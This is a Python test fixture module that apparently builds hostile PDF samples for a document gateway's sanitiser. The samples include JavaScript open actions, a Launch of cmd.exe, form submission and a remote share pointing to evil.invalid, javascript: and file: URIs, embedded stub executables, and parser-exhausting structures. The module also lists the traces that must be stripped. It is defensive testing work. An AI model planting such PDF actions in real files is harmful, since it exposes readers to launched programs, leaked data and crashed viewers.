"""Every kind of hostile PDF the tests know, each naming its file so that it is only its flaw that is looked at.

`STRIPPED` holds what reasons lose on their way and signed documents are refused for; `REFUSED` what neither gets
through, with the codes that may be said of it (a reader may give up or be given up on).
"""

import zlib
from collections.abc import Mapping

from gateway.domain.codes import Code
from tests.templates import hostile_pdfs
from tests.templates.hostile_pdfs import FONT, pdf, stream
from tests.templates.hostile_pdfs import one_page as page_of

WORDS = "File TC6-12345"
TRACES = (b"MZ-embedded", b"app.alert", b"cmd.exe", b"evil.invalid")
"""What must be in nothing that leaves."""

_SCRIPT = "<</S /JavaScript /JS (app.alert\\(1\\))>>"
_FILE: Mapping[int, bytes | str] = {
    5: "<</Type /Filespec /F (f.exe) /UF (f.exe) /EF <</F 6 0 R>>>>",
    6: stream(b"MZ-embedded-program", "/Type /EmbeddedFile"),
}


def one_page(**changes: object) -> bytes:
    """A page that names its file."""
    return page_of(WORDS, **changes)  # type: ignore[arg-type]


def _annotation(subtype: str, entries: str, more: Mapping[int, bytes | str] | None = None) -> bytes:
    annotation = f"[<</Type /Annot /Subtype /{subtype} /Rect [10 10 99 99] {entries}>>]"
    return one_page(page=f"/Annots {annotation}", more=more)


def _action(action: str, more: Mapping[int, bytes | str] | None = None) -> bytes:
    return _annotation("Link", f"/A {action}", more)


def _packed_objects(body: str, numbers: str, entries: str = "") -> bytes:
    """A catalogue whose action stands in an object stream, with a cross-reference stream."""
    head = numbers.encode()
    data = zlib.compress(head + body.encode())
    parts = [b"%PDF-1.7\n"]
    offsets: dict[int, int] = {}

    def put(number: int, raw: bytes) -> None:
        offsets[number] = sum(map(len, parts))
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, raw))

    put(1, b"<</Type /Catalog /Pages 2 0 R /OpenAction 6 0 R>>")
    put(2, b"<</Type /Pages /Kids [3 0 R] /Count 1>>")
    put(
        3,
        f"<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources {FONT}>>".encode(),
    )
    put(4, stream(f"BT /F1 12 Tf 72 700 Td ({WORDS}) Tj ET".encode()))
    put(5, stream(data, f"/Type /ObjStm /N 1 /First {len(head)} /Filter /FlateDecode {entries}"))
    at = sum(map(len, parts))
    rows = [(0, 0, 65535), *((1, offsets[number], 0) for number in range(1, 6)), (2, 5, 0), (1, at, 0)]
    table = b"".join(
        kind.to_bytes(1, "big") + place.to_bytes(4, "big") + index.to_bytes(2, "big") for kind, place, index in rows
    )
    put(7, stream(table, "/Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R"))
    parts.append(b"startxref\n%d\n%%%%EOF\n" % at)
    return b"".join(parts)


def _layers(filters: int) -> bytes:
    data = f"BT /F1 12 Tf 72 700 Td ({WORDS}) Tj ET".encode()
    for _ in range(filters):
        data = zlib.compress(data)
    names = " ".join(["/FlateDecode"] * filters)
    return one_page(content=stream(data, f"/Filter [{names}]"))


def _previous_table_is_itself() -> bytes:
    content = one_page()
    at = content.rindex(b"xref\n0")
    return content.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % at)


def _recursive_form() -> bytes:
    form = stream(b"/X Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources <</XObject <</X 5 0 R>>>>")
    drawn = stream(f"BT /F1 12 Tf 72 700 Td ({WORDS}) Tj ET /X Do".encode())
    resources = "<</Font <</F1 <</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>>> /XObject <</X 5 0 R>>>>"
    return one_page(content=drawn, resources=resources, more={5: form})


STRIPPED: Mapping[str, bytes] = {
    "a script when it opens": one_page(catalogue=f"/OpenAction {_SCRIPT}"),
    "a script by name": one_page(catalogue=f"/Names <</JavaScript <</Names [(a) {_SCRIPT}]>>>>"),
    "a script when it is closed": one_page(catalogue=f"/AA <</WC {_SCRIPT}>>"),
    "a script of a page": one_page(page=f"/AA <</O {_SCRIPT}>>"),
    "a script of a field": _annotation("Widget", f"/FT /Tx /T (x) /AA <</K {_SCRIPT}>>"),
    "a script in a bookmark": one_page(
        catalogue="/Outlines 5 0 R",
        more={
            5: "<</Type /Outlines /First 6 0 R /Last 6 0 R /Count 1>>",
            6: f"<</Title (x) /Parent 5 0 R /A {_SCRIPT}>>",
        },
    ),
    "a script behind another action": _action(f"<</S /GoTo /D [3 0 R /Fit] /Next {_SCRIPT}>>"),
    "a program to launch": _action("<</S /Launch /F (cmd.exe)>>"),
    "a form to submit": _action("<</S /SubmitForm /F (http://evil.invalid)>>"),
    "data to import": _action("<</S /ImportData /F (cmd.exe)>>"),
    "a place in another file": _action("<</S /GoToR /F (\\\\\\\\evil.invalid\\\\share) /D [0 /Fit]>>"),
    "a place in an embedded file": _action("<</S /GoToE /D [0 /Fit] /T <</R /C /N (f)>>>>"),
    "an address that is a script": _action("<</S /URI /URI (javascript:app.alert\\(1\\))>>"),
    "an address that is a file": _action("<</S /URI /URI (file:///cmd.exe)>>"),
    "a rendition": _action(f"<</S /Rendition /OP 0 /JS (app.alert\\(1\\)) /R <<>> /Next {_SCRIPT}>>"),
    "a named action": _action("<</S /Named /N /Print>>"),
    "hiding": _action("<</S /Hide /T (x)>>"),
    "an embedded file": one_page(catalogue="/Names <</EmbeddedFiles <</Names [(f) 5 0 R]>>>>", more=_FILE),
    "an associated file": one_page(catalogue="/AF [5 0 R]", page="/AF [5 0 R]", more=_FILE),
    "an attached file": _annotation("FileAttachment", "/FS 5 0 R", _FILE),
    "a portfolio": one_page(
        catalogue="/Collection <</View /D>> /Names <</EmbeddedFiles <</Names [(f) 5 0 R]>>>>", more=_FILE
    ),
    "rich media": _annotation("RichMedia", "/RichMediaContent <</Assets <</Names [(f) 5 0 R]>>>>", _FILE),
    "a film": _annotation("Movie", "/Movie <</F (http://evil.invalid)>> /A true"),
    "a sound": _annotation("Sound", "/Sound 7 0 R", {7: stream(b"x", "/R 8000")}),
    "a screen": _annotation("Screen", f"/A {_SCRIPT}"),
    "a three-dimensional view": _annotation(
        "3D", "/3DD 5 0 R", {5: stream(b"x", f"/Type /3D /OnInstantiate {_SCRIPT}")}
    ),
    "private data of a program": one_page(page="/PieceInfo <</X <</Private 5 0 R>>>>", more=_FILE),
    "an action in an object stream": _packed_objects(_SCRIPT, "6 0 "),
    "an object stream that extends itself": _packed_objects(_SCRIPT, "6 0 ", "/Extends 5 0 R"),
}

HARMLESS: Mapping[str, bytes] = {
    "a link to the web": _action("<</S /URI /URI (https://www.canlii.org/)>>"),
    "a place in the file": _action("<</S /GoTo /D [3 0 R /Fit]>>"),
    "a hidden annotation": _annotation("FreeText", "/F 2 /Contents (hidden) /DA (/F1 9 Tf)"),
    "a thread": one_page(catalogue="/Threads [<</I <</Title (x)>>>>]"),
    "a form that draws itself": _recursive_form(),
    "content in fifty wrappings": _layers(50),
    "a page tree that miscounts": one_page().replace(b"/Count 1", b"/Count 9"),
    "names beyond ASCII": one_page(catalogue="/L#e9on (x)"),
}
"""What is left out of reasons, or does nothing; a signed document may hold it."""

_ENDLESS = frozenset({Code.DOCUMENT_NEEDS_TIME, Code.DOCUMENT_BREAKS_READER, Code.DOCUMENT_NEEDS_MEMORY})
_BROKEN = frozenset({Code.DOCUMENT_UNREADABLE})

REFUSED: Mapping[str, tuple[bytes, frozenset[Code]]] = {
    **{name: (content, _BROKEN) for name, content in hostile_pdfs.UNREADABLE.items() if content},
    "forms within forms": (hostile_pdfs.EXPONENTIAL, _ENDLESS | _BROKEN),
    "a password": (hostile_pdfs.encrypted("secret", "owner"), frozenset({Code.DOCUMENT_ENCRYPTED})),
    "permissions": (hostile_pdfs.encrypted("", "owner"), frozenset({Code.DOCUMENT_ENCRYPTED})),
    "too many pages": (hostile_pdfs.TOO_MANY_PAGES, frozenset({Code.DOCUMENT_TOO_LARGE})),
    "brackets without end": (
        one_page(catalogue="/X " + "[" * 200_000),
        _BROKEN | _ENDLESS,
    ),
    "a table before itself": (_previous_table_is_itself(), _BROKEN),
    "a root in a loop": (pdf({1: "2 0 R", 2: "1 0 R"}), _BROKEN),
}
